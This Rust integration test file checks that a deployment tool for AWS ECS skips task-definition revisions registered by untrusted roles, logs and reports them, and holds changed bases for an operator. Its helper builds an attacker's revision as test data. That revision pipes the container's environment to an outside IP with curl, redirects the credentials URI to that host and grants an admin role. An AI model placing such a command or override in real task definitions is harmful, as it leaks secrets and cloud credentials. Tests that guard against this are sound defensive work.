//! `base = "family"` trusts only the registrants the config names: a revision anybody else
//! registers never reaches production, and what a trusted one changes is shown before and after.

use aws_sdk_ecs::types::{KeyValuePair, Tag};
use serde_json::{json, Value};
use testkit::estate::{ecr_push_event, family_base_config, local_config, registry, Aws, ACCOUNT, CLUSTER};
use testkit::iam::TERRAFORM_ROLE_ARN;
use testkit::standin::Behaviour;

use crate::support::{World, TODO_CONFIG};
use crate::verify::Loop;

/// Who ECS names as the registrant of what the `developer` client registers: a session of a role
/// the config does not trust (anyone with ecs:RegisterTaskDefinition).
fn developer() -> String {
    format!("arn:aws:sts::{ACCOUNT}:assumed-role/developer/testkit")
}

const ADMIN_ROLE: &str = "arn:aws:iam::123456789012:role/admin";

/// The running revision's backend container: (image, command, environment) and the task role.
async fn running(aws: &Aws) -> (String, Vec<String>, Vec<(String, String)>, Option<String>) {
    let arn = aws.service_task_definition(CLUSTER, "todo-backend").await;
    let out = aws.ecs.describe_task_definition().task_definition(&arn).send().await.unwrap();
    let td = out.task_definition().unwrap();
    let c = &td.container_definitions()[0];
    (
        c.image().unwrap().to_string(),
        c.command().to_vec(),
        c.environment().iter().map(|kv| (kv.name().unwrap().into(), kv.value().unwrap().into())).collect(),
        td.task_role_arn().map(str::to_string),
    )
}

/// A revision of the backend's family with another command, a leaking environment and an admin
/// task role, registered by `aws`'s signer; `forged` also puts pushdeploy's own tags on it.
async fn unreviewed_revision(aws: &Aws, source: &str, forged: bool) -> String {
    let tags = if forged {
        vec![
            Tag::builder().key(pushdeploy::rules::plan::BASE_TAG).value(source).build(),
            Tag::builder().key(pushdeploy::rules::plan::PUSHED_AT_TAG).value("4102444800").build(),
        ]
    } else {
        Vec::new()
    };
    aws.register_revision_like(
        source,
        |td| {
            td.task_role_arn = Some(ADMIN_ROLE.into());
            let c = &mut td.container_definitions.as_mut().unwrap()[0];
            c.command = Some(vec!["sh".into(), "-c".into(), "env | curl -d @- http://198.51.100.7/".into()]);
            c.environment = Some(vec![
                KeyValuePair::builder().name("TODO_ENV").value("debug").build(),
                KeyValuePair::builder()
                    .name("AWS_CONTAINER_CREDENTIALS_FULL_URI")
                    .value("http://198.51.100.7/")
                    .build(),
            ]);
        },
        tags,
    )
    .await
}

async fn push(l: &Loop, id: &str, seed: &str) -> (Value, String) {
    let digest = l.aws().push_image("todo-backend", "latest", seed).await;
    l.standin.set(digest.as_str(), Behaviour::Good);
    let event = ecr_push_event(id, "todo-backend", "latest", &digest);
    let answer = serde_json::to_value(l.deployer.handle(event, "req").await.unwrap()).unwrap();
    (answer, format!("{}/todo-backend@{digest}", registry()))
}

fn lines(v: &Value) -> Vec<&str> {
    v.as_array().map(|a| a.iter().filter_map(Value::as_str).collect()).unwrap_or_default()
}

#[tokio::test]
async fn a_revision_nobody_trusted_registered_never_reaches_production_and_is_named() {
    let mut l = Loop::with_config(|app| family_base_config(&local_config(app))).await;
    let terraform_v1 = l.aws().service_task_definition(CLUSTER, "todo-backend").await;
    let (_, command_v1, env_v1, role_v1) = running(l.aws()).await;

    // Someone with ecs:RegisterTaskDefinition, not Terraform, adds two newer revisions: one
    // plain, one wearing pushdeploy's tags as if it were one of its copies.
    let attacker = l.aws().signing_as("developer");
    let plain = unreviewed_revision(&attacker, &terraform_v1, false).await;
    let forged = unreviewed_revision(&attacker, &terraform_v1, true).await;

    let planned = l.deployer.handle(json!({"action": "plan", "service": "backend"}), "req").await.unwrap();
    let planned = serde_json::to_value(planned).unwrap();
    let d = &planned["deployments"][0];
    assert_eq!(d["outcome"], "planned", "{planned}");
    let passed: Vec<&str> =
        d["passed_over"].as_array().unwrap().iter().map(|p| p["task_definition"].as_str().unwrap()).collect();
    assert_eq!(passed, [forged.as_str(), plain.as_str()], "plan names both, newest first: {planned}");
    assert!(!lines(&d["diff"]).iter().any(|l| l.contains("admin") || l.contains("command")), "{planned}");

    let (answer, pinned) = push(&l, "push-1", "backend-v1").await;
    let d = &answer["deployments"][0];
    assert_eq!(d["outcome"], "started", "{answer}");

    // Production runs Terraform's settings with the pushed image, nothing of the attacker's.
    let (image, command, env, role) = running(l.aws()).await;
    assert_eq!(image, pinned);
    assert_eq!((&command, &env, &role), (&command_v1, &env_v1, &role_v1));
    assert_eq!(env, [("TODO_ENV".to_string(), "prod".to_string())]);
    assert_ne!(role.as_deref(), Some(ADMIN_ROLE));

    // The answer and the record say what was passed over, by whom and why.
    let reason = d["reason"].as_str().unwrap();
    assert!(
        reason.contains(&format!(
            "passed over 2 newer revision(s) of the family that no trusted registrant registered: {}, {}",
            short(&forged),
            short(&plain)
        )),
        "{reason}"
    );
    let dep = d["ecs_deployment_id"].as_str().unwrap().to_string();
    let record = l.record("todo-backend", &dep).await;
    assert_eq!(
        record["passed_over"],
        json!([
            {"task_definition": forged, "registered_by": developer(),
             "reason": "it carries pushdeploy's tags, but neither pushdeploy role registered it"},
            {"task_definition": plain, "registered_by": developer(),
             "reason": "its registrant is not in trusted_registrants"},
        ]),
        "{record}"
    );
    assert_eq!(record["base"], terraform_v1.as_str(), "the copy was made from what ran, Terraform's revision");
    assert!(record.get("base_changes").is_none(), "nothing but the image changed: {record}");

    // The verdict tells a person too.
    assert_eq!(l.completed("todo-backend", &dep).await["outcome"], "verified");
    let notes = l.sink.notifications();
    let message = notes.last().unwrap()["Message"].as_str().unwrap();
    assert!(
        message.contains(&format!(
            "\npassed over: {} (registered by {}): its registrant is not in trusted_registrants\n",
            short(&plain),
            developer()
        )),
        "{message}"
    );
}

#[tokio::test]
async fn a_trusted_registrants_revision_is_taken_and_what_it_changes_is_shown() {
    let mut l = Loop::with_config(|app| family_base_config(&local_config(app))).await;
    let terraform_v1 = l.aws().service_task_definition(CLUSTER, "todo-backend").await;
    let (first, _) = push(&l, "push-1", "backend-v1").await;
    assert_eq!(first["outcome"], "started", "{first}");

    // Terraform changes an environment variable: the revision is the registrant's, so it is taken.
    let terraform_v2 = l.aws().register_changed_revision(&terraform_v1, ("TODO_ENV", "staging")).await;
    let planned = l.deployer.handle(json!({"action": "plan", "service": "backend"}), "req").await.unwrap();
    let planned = serde_json::to_value(planned).unwrap();
    let d = &planned["deployments"][0];
    assert_eq!(d["base"], terraform_v2.as_str(), "{planned}");
    assert_eq!(lines(&d["base_changes"]), ["backend.environment.TODO_ENV: \"prod\" → \"staging\""], "{planned}");
    assert!(d.get("passed_over").is_none(), "{planned}");

    let (answer, pinned) = push(&l, "push-2", "backend-v2").await;
    let d = &answer["deployments"][0];
    assert_eq!(d["outcome"], "started", "{answer}");
    assert_eq!(lines(&d["base_changes"]), ["backend.environment.TODO_ENV: \"prod\" → \"staging\""]);
    let (image, _, env, _) = running(l.aws()).await;
    assert_eq!(image, pinned);
    assert_eq!(env, [("TODO_ENV".to_string(), "staging".to_string())]);
    let dep = d["ecs_deployment_id"].as_str().unwrap().to_string();
    let record = l.record("todo-backend", &dep).await;
    assert_eq!(record["base"], terraform_v2.as_str());
    assert_eq!(record["base_changes"], json!(["backend.environment.TODO_ENV: \"prod\" → \"staging\""]));

    assert_eq!(l.completed("todo-backend", &dep).await["outcome"], "verified");
    let notes = l.sink.notifications();
    let message = notes.last().unwrap()["Message"].as_str().unwrap();
    assert!(
        message.contains(&format!(
            "\nbase: {}\nbase change: backend.environment.TODO_ENV: \"prod\" → \"staging\"\n",
            short(&terraform_v2)
        )),
        "{message}"
    );
}

#[tokio::test]
async fn with_hold_base_changes_a_push_waits_for_an_operator() {
    let config = family_base_config(TODO_CONFIG).replacen(
        &format!("trusted_registrants = [\"{TERRAFORM_ROLE_ARN}\"]"),
        &format!("trusted_registrants = [\"{TERRAFORM_ROLE_ARN}\"]\nhold_base_changes = true"),
        1,
    );
    let mut w = World::new(&config).await;
    let sink = testkit::standin::SnsSink::start(w.aws(), "pushdeploy-verdicts").await;
    let deploy_role = w.aws().as_role(testkit::iam::Role::Deploy);
    w.deployer.notifier = Some(pushdeploy::aws::sns::Notifier::new(deploy_role.sns.clone(), &sink.topic_arn));
    let terraform_v1 = w.aws().service_task_definition(CLUSTER, "todo-backend").await;
    let terraform_v2 = w.aws().register_changed_revision(&terraform_v1, ("TODO_ENV", "staging")).await;

    let before = w.snapshot().await;
    let (event, _) = w.push("push-held", "todo-backend", "latest", "backend-v2").await;
    let answer = w.handle(event).await;
    let d = &answer["deployments"][0];
    assert_eq!(d["outcome"], "rejected", "{answer}");
    let reason = d["reason"].as_str().unwrap();
    assert!(
        reason.starts_with(&format!(
            "held (hold_base_changes): its base {} changes more than the image: backend.environment.TODO_ENV (see base_changes); nothing was changed",
            short(&terraform_v2)
        )),
        "{reason}"
    );
    assert_eq!(lines(&d["base_changes"]), ["backend.environment.TODO_ENV: \"prod\" → \"staging\""], "{answer}");
    assert_eq!(w.snapshot().await, before, "nothing changed");
    let told = sink.notifications();
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(told[0]["Message"].as_str().unwrap().contains("held (hold_base_changes)"), "{}", told[0]);

    // An operator who read it deploys it.
    let answer = w.handle(json!({"action": "redeploy", "service": "backend"})).await;
    assert_eq!(answer["deployments"][0]["outcome"], "started", "{answer}");
    let (_, _, env, _) = running(w.aws()).await;
    assert_eq!(env, [("TODO_ENV".to_string(), "staging".to_string())]);
}

fn short(arn: &str) -> &str {
    pushdeploy::domain::names::short_name(arn)
}
